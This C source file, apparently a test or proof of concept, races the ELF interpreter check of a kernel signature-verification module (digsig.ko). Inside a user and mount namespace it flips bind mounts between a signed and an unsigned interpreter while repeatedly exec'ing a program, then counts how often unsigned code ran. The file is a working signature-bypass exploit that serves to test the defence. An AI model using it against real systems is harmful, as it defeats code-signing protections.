// SPDX-License-Identifier: GPL-2.0
/*
 * interp_race TARGET SIGNED UNSIGNED PROGRAM TRIES: the race on a
 * program's ELF interpreter. In a user and mount namespace of its own (as
 * the unprivileged user, who may make them), it bind-mounts SIGNED over
 * TARGET (the path PROGRAM's PT_INTERP names), then lets a child flip
 * UNSIGNED on and off on top of it as fast as it can, while it execs
 * PROGRAM TRIES times: digsig.ko opens TARGET to verify it, the ELF loader
 * opens it again to map it, and the flip can land in between. Prints how
 * often PROGRAM ran with the signed interpreter, how often the unsigned
 * one ran (its output contains MARK), how often exec was refused (126) and
 * how often the process was killed (SIGKILL). Exits 0 when it could run
 * the tries at all.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/wait.h>
#include <unistd.h>

#define MARK "attack2-payload: unsigned code ran"

static int write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = write(fd, text, strlen(text));
	close(fd);
	return n == (ssize_t)strlen(text) ? 0 : -1;
}

/* Root of a new user namespace, with a mount namespace of its own. */
static int enter_namespaces(void)
{
	char map[64];
	uid_t uid = getuid();
	gid_t gid = getgid();

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
		return -1;
	snprintf(map, sizeof(map), "0 %u 1\n", (unsigned int)uid);
	if (write_file("/proc/self/uid_map", map) != 0 ||
	    write_file("/proc/self/setgroups", "deny") != 0)
		return -1;
	snprintf(map, sizeof(map), "0 %u 1\n", (unsigned int)gid);
	if (write_file("/proc/self/gid_map", map) != 0)
		return -1;
	return mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
}

static void flip_forever(const char *target, const char *unsigned_path)
{
	for (;;) {
		if (mount(unsigned_path, target, NULL, MS_BIND, NULL) == 0)
			umount2(target, MNT_DETACH);
	}
}

/* One exec of @program: 0 signed ran, 1 unsigned ran, 2 refused, 3 killed, 4 other. */
static int one_try(const char *program)
{
	char out[256];
	int pipefd[2], status;
	ssize_t n, total = 0;
	pid_t pid;

	if (pipe(pipefd) != 0)
		return 4;
	pid = fork();
	if (pid == 0) {
		dup2(pipefd[1], 1);
		close(pipefd[0]);
		execl(program, program, (char *)NULL);
		_exit(126);
	}
	close(pipefd[1]);
	while (total < (ssize_t)sizeof(out) - 1 &&
	       (n = read(pipefd[0], out + total, sizeof(out) - 1 - (size_t)total)) > 0)
		total += n;
	out[total] = '\0';
	close(pipefd[0]);
	if (pid < 0 || waitpid(pid, &status, 0) != pid)
		return 4;
	if (strstr(out, MARK))
		return 1;
	if (WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL)
		return 3;
	if (WIFEXITED(status) && WEXITSTATUS(status) == 126)
		return 2;
	if (WIFEXITED(status) && WEXITSTATUS(status) == 0)
		return 0;
	return 4;
}

int main(int argc, char **argv)
{
	int counts[5] = { 0 }, tries, i;
	pid_t flipper;

	if (argc != 6) {
		fprintf(stderr, "usage: interp_race TARGET SIGNED UNSIGNED PROGRAM TRIES\n");
		return 2;
	}
	tries = atoi(argv[5]);
	if (enter_namespaces() != 0 || mount(argv[2], argv[1], NULL, MS_BIND, NULL) != 0) {
		fprintf(stderr, "interp_race: namespaces or bind mount: %s\n", strerror(errno));
		return 1;
	}
	flipper = fork();
	if (flipper == 0)
		flip_forever(argv[1], argv[3]);
	for (i = 0; i < tries; i++)
		counts[one_try(argv[4])]++;
	kill(flipper, SIGKILL);
	waitpid(flipper, NULL, 0);
	printf("interp_race: %d tries: %d signed ran, %d unsigned ran, %d refused, %d killed, %d other\n",
	       tries, counts[0], counts[1], counts[2], counts[3], counts[4]);
	return 0;
}
